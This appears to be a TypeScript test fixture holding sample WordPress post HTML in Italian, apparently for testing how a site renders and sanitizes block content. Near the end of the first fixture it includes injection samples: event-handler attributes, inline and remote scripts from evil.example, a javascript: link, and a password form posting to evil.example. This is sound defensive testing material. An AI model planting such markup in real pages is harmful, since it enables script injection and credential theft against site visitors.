/**
 * The HTML that WordPress's `the_content` gives for the editor's blocks and for pasted text. The test
 * server replaces {wp} with its address.
 */
export const BLOCKS = `
<p>Un&#8217;idea <strong>non basta</strong>: <em>serve</em> chi la <a href="{wp}/altro/" onclick="steal()">porta avanti</a> &#8212; e <a href="https://altrove.example/" target="_blank">altrove</a>.</p>

<h1 class="wp-block-heading">Un titolo di primo livello</h1>
<p>[gallery ids=&#8221;1,2&#8243;] Il testo continua con H<sub>2</sub>O, m<sup>2</sup>, <code>codice</code>, <mark style="background-color:#ff0">evidenziato</mark> e <del>barrato</del>.</p>

<h2 class="wp-block-heading" id="h-elenchi">Elenchi &amp; numeri</h2>
<ul class="wp-block-list"><li>Prima voce</li><li>Seconda voce<ul class="wp-block-list"><li>Voce dentro</li></ul></li></ul>
<ol class="wp-block-list" start="3"><li>Terzo</li><li>Quarto</li></ol>

<h3 class="wp-block-heading">Citazioni</h3>
<blockquote class="wp-block-quote is-layout-flow wp-block-quote-is-layout-flow"><p>Prima si misura, poi si cresce.</p><cite>Ada Lentini</cite></blockquote>
<figure class="wp-block-pullquote"><blockquote><p>Una frase tirata fuori dal testo.</p><cite>Giuria</cite></blockquote></figure>
<pre class="wp-block-verse">Un verso
 e un altro</pre>
<pre class="wp-block-code"><code>const x = 1 &lt; 2;</code></pre>
<pre class="wp-block-preformatted">una riga molto lunga che non va mai a capo e quindi scorre dentro il suo riquadro, senza allargare la pagina di chi legge</pre>

<h2 class="wp-block-heading">Tabelle e figure</h2>
<figure class="wp-block-table"><table class="has-fixed-layout"><thead><tr><th>Anno</th><th>Progetti</th><th>Euro</th></tr></thead><tbody><tr><td>2024</td><td>412</td><td>5,19</td></tr><tr><td>2025</td><td>508</td><td>5,40</td></tr></tbody><tfoot><tr><td>Somma</td><td>920</td><td></td></tr></tfoot></table><figcaption class="wp-element-caption">Ritorno per euro investito</figcaption></figure>
<figure class="wp-block-image size-large"><img fetchpriority="high" decoding="async" width="1600" height="900" src="{wp}/wp-content/uploads/2026/01/banco.jpg" alt="Un banco di lavoro" class="wp-image-12" srcset="{wp}/wp-content/uploads/2026/01/banco-300x169.jpg 300w" onload="steal()"><figcaption class="wp-element-caption">Il banco, <em>prima</em></figcaption></figure>
<figure class="wp-block-image alignright size-medium"><img src="https://cdn.elsewhere.example/rubata.jpg" alt="Da altrove"><figcaption class="wp-element-caption">Didascalia di una foto altrui</figcaption></figure>
<figure class="wp-block-gallery has-nested-images columns-default is-cropped wp-block-gallery-1 is-layout-flex"><figure class="wp-block-image size-large"><img width="1600" height="900" data-id="13" src="{wp}/wp-content/uploads/2026/01/uno.jpg" alt="Uno" class="wp-image-13"/><figcaption class="wp-element-caption">Uno</figcaption></figure><figure class="wp-block-image size-large"><img width="1600" height="900" data-id="14" src="{wp}/wp-content/uploads/2026/01/due.jpg" alt="Due" class="wp-image-14"/></figure><figure class="wp-block-image size-large"><img width="1600" height="900" data-id="15" src="{wp}/wp-content/uploads/2026/01/tre.jpg" alt="Tre" class="wp-image-15"/></figure><figcaption class="blocks-gallery-caption wp-element-caption">Tre foto</figcaption></figure>
<div class="wp-block-media-text is-stacked-on-mobile"><figure class="wp-block-media-text__media"><img width="1600" height="900" src="{wp}/wp-content/uploads/2026/01/accanto.jpg" alt="Accanto"/></figure><div class="wp-block-media-text__content"><p>Testo accanto a una foto.</p></div></div>

<h2 class="wp-block-heading">Altri blocchi</h2>
<div class="wp-block-columns is-layout-flex"><div class="wp-block-column is-layout-flow" style="flex-basis:50%"><p>Colonna sinistra.</p></div><div class="wp-block-column is-layout-flow"><p>Colonna destra.</p></div></div>
<div class="wp-block-buttons is-layout-flex"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="/call-for-ideas">Candidati</a></div></div>
<hr class="wp-block-separator has-alpha-channel-opacity"/>
<details class="wp-block-details is-layout-flow"><summary>Una domanda</summary><p>E la sua risposta.</p></details>
<div class="wp-block-group has-background" style="background-color:#eee"><div class="wp-block-group__inner-container"><p>Un gruppo.</p></div></div>
<div style="height:100px" aria-hidden="true" class="wp-block-spacer"></div>
<div class="wp-block-file"><a id="wp-block-file--media-1" href="{wp}/wp-content/uploads/2026/01/bando.pdf">Bando</a><a href="{wp}/wp-content/uploads/2026/01/bando.pdf" class="wp-block-file__button wp-element-button" download>Scarica</a></div>

<h2 class="wp-block-heading">Da altrove</h2>
<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">
<iframe title="Il pitch di Cartavoce" width="500" height="281" src="https://www.youtube.com/embed/abc123?feature=oembed" frameborder="0" allow="autoplay" allowfullscreen></iframe>
</div><figcaption class="wp-element-caption">Un video</figcaption></figure>
<figure class="wp-block-embed"><div class="wp-block-embed__wrapper"><iframe src="https://tracker.example/embed" title="Sconosciuto"></iframe></div></figure>
<blockquote class="wp-embedded-content"><a href="{wp}/altro/">Un altro articolo</a></blockquote><iframe class="wp-embedded-content" sandbox="allow-scripts" src="{wp}/altro/embed/"></iframe>
<script>window.intruder = 1</script><script src="https://evil.example/x.js" async></script>
<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example"><input name="password"><button>Invia</button></form>
<img src="x" onerror="window.intruder = 2"><svg onload="window.intruder = 3"><circle r="9"/></svg>
<a href="javascript:window.intruder=4">Non cliccare</a><object data="https://evil.example/x.swf"></object>
<p style="position:fixed;inset:0" class="has-text-align-center has-vivid-red-color" onmouseover="window.intruder = 5">Un paragrafo centrato.</p>
<div class="sharedaddy sd-sharing-enabled"><h3 class="sd-title">Condividi:</h3></div>
`;

/**
 * The HTML of blocks that need their own layout or player: own video and audio, aligned pictures, columns of different
 * widths, a cover with text, buttons, a search form, a small heading, details, footnotes, and shortcodes.
 */
export const UNUSUAL_BLOCKS = `
<p>Prima dei blocchi insoliti.<sup data-fn="a1" class="fn"><a href="#a1" id="a1-link">1</a></sup> Il testo scorre attorno alla foto e continua per molte righe, perch&eacute; si veda se la foto sta davvero di lato. Ancora parole, una dopo l&#8217;altra, fino a riempire qualche riga sotto la foto.</p>
<figure class="wp-block-image alignleft size-medium"><img width="300" height="169" src="{wp}/wp-content/uploads/2026/01/sinistra.jpg" alt="A sinistra"/></figure>
<p>Accanto alla foto a sinistra. Il testo scorre attorno alla foto e continua per molte righe, perch&eacute; si veda se la foto sta davvero di lato. Ancora parole, una dopo l&#8217;altra, fino a riempire qualche riga.</p>
<figure class="wp-block-image alignright size-medium"><img width="300" height="169" src="{wp}/wp-content/uploads/2026/01/destra.jpg" alt="A destra"/></figure>
<p>Accanto alla foto a destra. Il testo scorre attorno alla foto e continua per molte righe, perch&eacute; si veda se la foto sta davvero di lato. Ancora parole, una dopo l&#8217;altra, fino a riempire qualche riga.</p>
<h2 class="wp-block-heading">Titoli</h2><h3 class="wp-block-heading">Terzo</h3><h4 class="wp-block-heading">Quarto</h4><h5 class="wp-block-heading">Quinto</h5>
<h6 class="wp-block-heading">Un titolo piccolo</h6>
<div class="wp-block-cover"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><img class="wp-block-cover__image-background" width="1600" height="900" src="{wp}/wp-content/uploads/2026/01/copertina.jpg" alt="Un porto"/><div class="wp-block-cover__inner-container"><p>Un testo sulla foto</p></div></div>
<div class="wp-block-columns is-layout-flex"><div class="wp-block-column is-layout-flow" style="flex-basis:66.66%"><p>Colonna larga, con qualche parola in pi&ugrave; perch&eacute; si veda la larghezza.</p></div><div class="wp-block-column is-layout-flow" style="flex-basis:33.33%"><p>Colonna stretta.</p></div></div>
<div class="wp-block-buttons is-layout-flex"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="/call-for-ideas">Con un link</a></div><div class="wp-block-button"><a class="wp-block-button__link wp-element-button">Senza link</a></div></div>
<figure class="wp-block-video"><video controls poster="{wp}/wp-content/uploads/2026/01/copertina.jpg" src="{wp}/wp-content/uploads/2026/01/video.mp4"><track src="{wp}/wp-content/uploads/2026/01/video.vtt" kind="captions" srclang="it" label="Italiano"></video><figcaption class="wp-element-caption">Un video nostro</figcaption></figure>
<figure class="wp-block-audio"><audio controls src="{wp}/wp-content/uploads/2026/01/audio.mp3"></audio><figcaption class="wp-element-caption">Una voce nostra</figcaption></figure>
<form role="search" method="get" action="{wp}/" class="wp-block-search__button-outside wp-block-search"><label class="wp-block-search__label">Cerca nel sito</label><div class="wp-block-search__inside-wrapper"><input type="search" name="s"><button type="submit">Cerca</button></div></form>
<p>[vc_row][vc_column]Testo tra codici brevi [sic][/vc_column]</p>
<details class="wp-block-details"><summary>Una domanda in pi&ugrave;</summary><p>E una risposta.</p></details>
<ol class="wp-block-footnotes"><li id="a1">Una nota. <a href="#a1-link" aria-label="Torna al testo">&#8617;&#xFE0E;</a></li></ol>
`;
